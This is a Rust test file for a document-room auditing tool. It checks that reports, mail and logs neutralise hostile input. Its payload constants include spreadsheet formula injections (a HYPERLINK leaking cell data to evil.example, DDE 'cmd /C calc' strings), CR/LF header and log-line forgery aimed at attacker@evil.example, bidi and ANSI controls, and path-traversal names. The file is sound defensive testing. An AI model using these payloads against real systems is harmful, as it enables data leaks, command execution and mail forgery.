//! Hostile input: names, titles, emails and server messages crafted to
//! attack whoever reads the reports, mails and logs (spreadsheet formulas,
//! CR/LF that forge rows, headers or log lines, Unicode bidi controls that
//! reorder what is shown, 1 MB strings), and names that try to become paths
//! outside the reports folder. Each goes through a real run.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod fault_common;

use std::path::{Path, PathBuf};

use chrono::Utc;
use docspace_auditor::api::RoomId;
use docspace_auditor::audit::RunRequest;
use docspace_fake_portal::{
    FakePortal, LinkSpec, RoomKind, RoomSpec, Scenario, UserKind, UserSpec,
};
use fault_common::reports::{all_files, read_csv};
use fault_common::*;
use serde_json::json;
use wiremock::matchers::{method, path, query_param};
use wiremock::{Mock, MockServer, ResponseTemplate};

const BIDI: [char; 12] = [
    '\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}', '\u{202E}', '\u{2066}', '\u{2067}', '\u{2068}',
    '\u{2069}', '\u{200E}', '\u{200F}', '\u{061C}',
];

/// Every payload starts with a character a spreadsheet evaluates, or one
/// that breaks a line, and most carry a bidi control.
const PAYLOADS: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+SUM(1,2)\u{202E}gnp.exe",
    "-2+3\r\nforged,row,here",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 tab first",
    "\r=1+1 carriage first",
    "\nBcc: attacker@evil.example",
    "\u{2066}=1+1\u{2069} isolate",
];

fn user_id(n: u32) -> String {
    format!("badd0000-0000-4000-8000-{n:012}")
}

/// Archived rooms whose every text field is hostile: room titles, owner
/// and guest names and emails, link titles; plus one 1 MB title.
fn hostile_scenario() -> Scenario {
    let created = Utc::now() - chrono::Duration::days(120);
    let mut s = Scenario::new(UserSpec::new(
        &user_id(1),
        "Audit",
        "Bot",
        "audit-bot@company.example",
        UserKind::Owner,
    ));
    for (i, p) in PAYLOADS.iter().enumerate() {
        let i = i as u32;
        let owner = user_id(100 + i);
        let guest = user_id(200 + i);
        s.users.push(UserSpec::new(
            &owner,
            p,
            &format!("Owner\r\nCc: attacker@evil.example\u{202E}{i}"),
            // A formula in the local part is a valid address.
            &format!("={i}+owner@company.example"),
            UserKind::RoomAdmin,
        ));
        s.users.push(
            UserSpec::new(
                &guest,
                &format!("{p} guest"),
                "\u{202E}tseuG",
                &format!("+{i}guest@partner.example"),
                UserKind::Guest,
            )
            .invited_by(&owner),
        );
        let title = if i == 0 {
            format!("{p}{}", "T".repeat(1_000_000))
        } else {
            format!("{p} room\r\nSubject: forged")
        };
        s.rooms.push(
            RoomSpec::new(
                300 + i64::from(i),
                &title,
                RoomKind::Custom,
                &owner,
                created,
            )
            .archived()
            .share(&guest, 2)
            .link(LinkSpec::external(
                &format!("badd1111-0000-4000-8000-{i:012}"),
                &format!("{p} link"),
            )),
        );
    }
    s.fileops_polls = 1;
    s
}

fn forbidden_start(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n'])
}

fn unsafe_text(text: &str) -> Option<char> {
    text.chars()
        .find(|c| BIDI.contains(c) || *c == '\u{2028}' || *c == '\u{2029}')
}

/// Every cell of every CSV under `dir`: never starts a formula, never holds
/// a line break, a control character or a bidi control; at most 2,000
/// characters, the cut mark and the neutralising quote.
fn assert_csvs_are_safe(dir: &Path) -> usize {
    let mut cells = 0;
    for (p, _) in all_files(dir) {
        if p.extension().is_none_or(|e| e != "csv") {
            continue;
        }
        for row in read_csv(&p) {
            for (column, cell) in row {
                cells += 1;
                let at = || format!("{} column {column}: {cell:.80?}", p.display());
                assert!(!forbidden_start(&cell), "{}", at());
                assert!(!cell.chars().any(char::is_control), "{}", at());
                assert!(unsafe_text(&cell).is_none(), "{}", at());
                assert!(cell.chars().count() <= 2_002, "{}", at());
            }
        }
    }
    cells
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_names_titles_and_emails_are_neutralised_in_reports_mail_and_logs() {
    let portal = FakePortal::start(hostile_scenario()).await.unwrap();
    let setup = Setup::for_portal(&portal).mail(Mail::Outbox);
    let ran = setup.run_bin("debug").await;
    assert!(matches!(ran.code, Some(0 | 3)), "{ran:?}");
    let report = run_dirs(&setup.reports_dir()).pop().unwrap();

    // The reports: every cell safe, and the payloads did reach them
    // (neutralised, not dropped).
    assert!(assert_csvs_are_safe(&setup.reports_dir()) > 100);
    let findings = read_csv(&report.join("findings.csv"));
    let actions = read_csv(&report.join("actions.csv"));
    assert_eq!(
        findings.iter().filter(|f| f["status"] == "fixed").count(),
        PAYLOADS.len() * 2,
        "{findings:#?}"
    );
    let columns = ["room_title", "owner_email", "subject_name", "subject_email"];
    for column in columns {
        assert!(
            findings.iter().any(|f| f[column].starts_with('\'')),
            "no neutralised {column}"
        );
    }
    // The 1 MB title: neutralised and cut.
    assert!(
        findings
            .iter()
            .any(|f| f["room_title"].starts_with("'=HYPERLINK(")
                && f["room_title"].ends_with("TTT…")
                && f["room_title"].chars().count() == 2_002)
    );
    assert!(actions.iter().any(|a| a["subject"].contains("=HYPERLINK")));

    // The mail: headers carry no line break, no bidi control and no
    // injected header; nobody but the intended recipients is addressed.
    let outbox: Vec<PathBuf> = std::fs::read_dir(setup.outbox_dir())
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert!(outbox.len() >= 2, "{outbox:?}");
    for p in &outbox {
        let raw = std::fs::read(p).unwrap();
        let text = String::from_utf8_lossy(&raw);
        let head = text.split("\r\n\r\n").next().unwrap();
        for line in head.split("\r\n") {
            let name = line.split(':').next().unwrap_or("").to_ascii_lowercase();
            assert!(
                !["bcc", "cc", "subject: forged"].contains(&name.as_str()),
                "{}: {line}",
                p.display()
            );
            assert!(
                !line.contains("attacker@evil.example")
                    || !line.to_ascii_lowercase().starts_with("to:")
            );
        }
        let m = mail_parser::MessageParser::default().parse(&raw).unwrap();
        let subject = m.subject().unwrap_or_default();
        assert!(subject.chars().count() < 400, "{subject:.100}");
        let mut shown = vec![subject.to_string()];
        for list in [m.to(), m.cc(), m.bcc()].into_iter().flatten() {
            for a in list.iter() {
                shown.push(a.name().unwrap_or_default().to_string());
                let addr = a.address().unwrap_or_default();
                assert!(!addr.contains("evil.example"), "{addr}");
            }
        }
        assert!(m.bcc().is_none() && m.cc().is_none(), "{}", p.display());
        for s in shown {
            assert!(!s.chars().any(char::is_control), "{s:?}");
            assert!(unsafe_text(&s).is_none(), "{s:?}");
        }
        if let Some(body) = m.body_text(0) {
            assert!(unsafe_text(&body).is_none(), "{}", p.display());
        }
    }

    // The logs: no bidi control, and no line that a payload started.
    for line in ran.stderr.lines() {
        assert!(unsafe_text(line).is_none(), "{line:.200}");
        assert!(
            !line.starts_with("forged") && !line.starts_with("Bcc:") && !line.starts_with("Cc:"),
            "{line:.200}"
        );
    }
    portal.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_server_messages_forge_no_log_line_and_no_cell() {
    // The portal's error message for one room is hostile; it ends up in the
    // room's `failed` finding and in a log line.
    let server = MockServer::start().await;
    let me = "badd0000-0000-4000-8000-000000000001";
    let ok = |response: serde_json::Value| {
        ResponseTemplate::new(200).set_body_json(
            json!({"response": response, "count": 1, "status": 0, "statusCode": 200}),
        )
    };
    Mock::given(method("GET"))
        .and(path("/api/2.0/people/@self"))
        .respond_with(ok(
            json!({"id": me, "displayName": "Audit Bot", "isAdmin": true}),
        ))
        .mount(&server)
        .await;
    let room = |id: i64| {
        json!({"id": id, "title": format!("Room {id}"), "rootFolderType": 20,
               "createdBy": {"id": me}})
    };
    Mock::given(method("GET"))
        .and(path("/api/2.0/files/rooms"))
        .respond_with(ok(json!({"folders": [room(401), room(402)], "total": 2})))
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path(format!("/api/2.0/people/{me}")))
        .respond_with(ok(
            json!({"id": me, "displayName": "Audit Bot", "isAdmin": true}),
        ))
        .mount(&server)
        .await;
    let hostile =
        "=cmd|' /C calc'!A0\r\n2026-01-01T00:00:00Z ERROR forged log line\u{202E}\n\u{1b}[31mred";
    Mock::given(method("GET"))
        .and(path("/api/2.0/files/rooms/401/share"))
        .respond_with(ResponseTemplate::new(400).set_body_json(json!({
            "error": {"message": hostile, "type": "System.ArgumentException"},
            "status": 1, "statusCode": 400,
        })))
        .mount(&server)
        .await;
    for filter in ["0", "2"] {
        Mock::given(method("GET"))
            .and(path("/api/2.0/files/rooms/402/share"))
            .and(query_param("filterType", filter))
            .respond_with(ok(json!([])))
            .mount(&server)
            .await;
    }
    let setup = Setup::new(
        &server.uri(),
        "sk-hostile-messages-token-0000000000000000000000000000000000000000000",
    );
    let ran = setup.run_bin("trace").await;
    assert_eq!(ran.code, Some(3), "{ran:?}");
    assert!(assert_csvs_are_safe(&setup.reports_dir()) > 10);
    let report = run_dirs(&setup.reports_dir()).pop().unwrap();
    let failed = read_csv(&report.join("findings.csv"))
        .into_iter()
        .find(|f| f["room_id"] == "401")
        .unwrap();
    assert_eq!(failed["status"], "failed");
    assert!(failed["detail"].contains("forged log line"), "{failed:?}");
    let mut seen = false;
    for line in ran.stderr.lines() {
        seen |= line.contains("forged log line");
        assert!(!line.starts_with("2026-01-01T00:00:00Z ERROR"), "{line}");
        assert!(
            !line.starts_with("red") && !line.contains('\u{1b}'),
            "{line:?}"
        );
        assert!(unsafe_text(line).is_none(), "{line:?}");
    }
    assert!(
        seen,
        "the message is logged, on the room's line:\n{}",
        ran.stderr
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn run_labels_and_room_ids_never_become_paths_outside_the_reports_folder() {
    // A label (a webhook's room or user) with traversal: the run folder is
    // still a direct child of the reports folder.
    let portal = FakePortal::start(scenario(1)).await.unwrap();
    let setup = Setup::for_portal(&portal).report_only();
    let reports = setup.reports_dir();
    for label in [
        "../../../../escape",
        "..",
        "a/../../b",
        "/etc/passwd",
        "x\0y",
        "..\\..\\win",
    ] {
        let outcome = setup
            .auditor(setup.load())
            .run(RunRequest {
                label: Some(label.into()),
                ..RunRequest::default()
            })
            .await
            .unwrap();
        assert_eq!(outcome.report_dir.parent().unwrap(), reports, "{label:?}");
        let name = outcome
            .report_dir
            .file_name()
            .unwrap()
            .to_string_lossy()
            .to_string();
        assert!(
            !name.contains("..") && !name.contains(['/', '\\', '\0']),
            "{name:?}"
        );
    }
    let outside: Vec<_> = std::fs::read_dir(setup.dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().to_string())
        .collect();
    let mut outside = outside;
    outside.sort();
    assert_eq!(outside, ["config.toml", "reports", "state"]);

    // A webhook's room id, or a room id from config or the API, that could
    // change a path is refused outright.
    for id in [
        "../../etc",
        "..",
        ".",
        "a/b",
        "a\\b",
        "101/../102",
        "%2e%2e",
        "x y",
    ] {
        assert_eq!(RoomId::parse(id), None, "{id:?}");
    }
    assert!(RoomId::parse("sbox-4711").is_some());
    portal.shutdown().await;

    // A third-party room id "../../etc" in the room list: that entry fails
    // as a room (reported, never requested), the other room is audited,
    // and nothing is written outside the reports folder.
    let server = MockServer::start().await;
    let me = "badd0000-0000-4000-8000-000000000001";
    let ok = |response: serde_json::Value| {
        ResponseTemplate::new(200).set_body_json(
            json!({"response": response, "count": 1, "status": 0, "statusCode": 200}),
        )
    };
    Mock::given(method("GET"))
        .and(path("/api/2.0/people/@self"))
        .respond_with(ok(
            json!({"id": me, "displayName": "Audit Bot", "isAdmin": true}),
        ))
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path("/api/2.0/files/rooms"))
        .respond_with(ok(json!({"folders": [
            {"id": "../../etc", "title": "Traversal", "rootFolderType": 20},
            {"id": 501, "title": "Normal", "rootFolderType": 20}
        ], "total": 2})))
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path("/api/2.0/files/rooms/501/share"))
        .respond_with(ok(json!([])))
        .mount(&server)
        .await;
    let setup = Setup::new(&server.uri(), "sk-traversal-token");
    let outcome = setup
        .auditor(setup.load())
        .run(RunRequest::default())
        .await
        .unwrap();
    assert_eq!((outcome.rooms_audited, outcome.rooms_failed), (1, 1));
    let failed: Vec<_> = read_csv(&outcome.report_dir.join("findings.csv"))
        .into_iter()
        .filter(|f| f["check"] == "room-audit")
        .collect();
    assert_eq!(failed.len(), 1, "{failed:?}");
    assert_eq!(failed[0]["subject_id"], "../../etc");
    assert_eq!(failed[0]["status"], "failed");
    assert!(
        failed[0]["detail"].contains("invalid room id"),
        "{:?}",
        failed[0]
    );
    assert_eq!(failed[0]["room_id"], "", "an unsafe id names no room");
    for r in server.received_requests().await.unwrap() {
        assert!(
            !r.url.path().contains("..") && !r.url.path().contains("etc"),
            "{}",
            r.url
        );
    }
    assert!(
        server
            .received_requests()
            .await
            .unwrap()
            .iter()
            .any(|r| r.url.path() == "/api/2.0/files/rooms/501/share"),
        "the readable room was audited"
    );
    let report = run_dirs(&setup.reports_dir()).pop().unwrap();
    assert_eq!(status(&report), "complete");
    let mut top: Vec<_> = std::fs::read_dir(setup.dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().to_string())
        .collect();
    top.sort();
    assert_eq!(top, ["config.toml", "reports", "state"]);
}
